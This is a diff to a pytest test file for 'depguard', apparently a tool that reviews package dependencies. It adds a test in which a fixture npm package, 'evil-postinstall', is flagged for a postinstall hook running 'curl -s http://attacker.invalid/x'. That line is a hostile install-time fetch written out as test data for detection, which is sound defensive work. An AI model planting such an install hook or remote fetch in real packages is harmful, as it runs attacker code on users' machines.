@@ -9,9 +9,10 @@ import pytest
 
 from depguard.model import Ecosystem, Origin, UrlKind
 from depguard.sources import command_line
+from test_formats import FORBIDDEN, validate_sarif
+
 from support import write
 from support.registry_server import Answer
-from test_formats import FORBIDDEN, validate_sarif
 
 ARCHIVED = (Path(__file__).parents[1] / "fixtures/pypi/simple/pil.archived.json").read_bytes()
 
@@ -169,3 +170,18 @@ def test_npm_arguments() -> None:
     assert deps[4].url_kind is UrlKind.VCS
     assert parsed.errors == []
     assert command_line.parse(["Bad Name"], Ecosystem.NPM).errors
+
+
+def test_npm_cards_through_the_same_pipeline(depguard, workdir: Path) -> None:
+    result = depguard("review", "--ecosystem", "npm", "left-pad", "evil-postinstall@1.0.0")
+    assert result.code == 0  # a warning does not fail at the default --fail-on block
+    assert result.out.startswith("left-pad 1.3.0 (npm)  ALLOW")
+    assert "install scripts  postinstall: curl -s http://attacker.invalid/x" in result.out
+    assert "why              install-scripts (medium)" in result.out
+    assert depguard("review", "-e", "npm", "evil-postinstall", "--fail-on", "warn").code == 1
+
+
+def test_card_file_has_no_trailing_padding(depguard, workdir: Path) -> None:
+    depguard("review", "six", "-o", "card.txt")
+    text = (workdir / "card.txt").read_text()
+    assert text.startswith("six ") and all(line == line.rstrip() for line in text.splitlines())
